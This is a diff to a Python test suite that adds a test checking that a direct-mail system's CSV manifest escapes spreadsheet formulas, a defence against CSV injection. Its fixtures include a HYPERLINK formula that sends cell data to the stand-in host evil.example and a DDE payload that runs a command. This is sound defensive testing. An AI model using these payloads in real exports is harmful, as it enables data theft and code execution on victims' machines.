@@ -116,6 +116,25 @@ def test_direct_mail_print_files(db: Database, settings: Settings, tmp_path: Pat
         assert "Dear P" in document and "1 Main St" in document
 
 
+def test_direct_mail_manifest_neutralises_spreadsheet_formulas(
+    db: Database, settings: Settings, tmp_path: Path
+) -> None:
+    """Cells a spreadsheet would evaluate (OWASP CSV injection) are written as plain text."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    hostile = {**ADDRESS, "line1": "@SUM(1+1)", "city": "+cmd|' /C calc'!A0", "region": "-2+3"}
+    people = [person(0, firstName=formula, address=hostile)]
+    campaign_id = seed_campaign(db, people=people, channel="direct_mail", content=LETTER)
+    outbox = tmp_path / "outbox"
+    send_now(db, campaign_id)
+    run_execution(db, settings.model_copy(update={"messaging_outbox_dir": outbox}))
+    (manifest,) = list(outbox.rglob("manifest.csv"))
+    (row,) = list(csv.DictReader(manifest.read_text().splitlines()))
+    assert row["name"] == "'" + formula
+    assert row["line1"] == "'@SUM(1+1)" and row["city"] == "'+cmd|' /C calc'!A0"
+    assert row["region"] == "'-2+3" and row["postal_code"] == "12345"
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+
+
 def test_direct_mail_recovery_uses_the_outbox_as_the_truth(
     db: Database, settings: Settings, tmp_path: Path
 ) -> None:
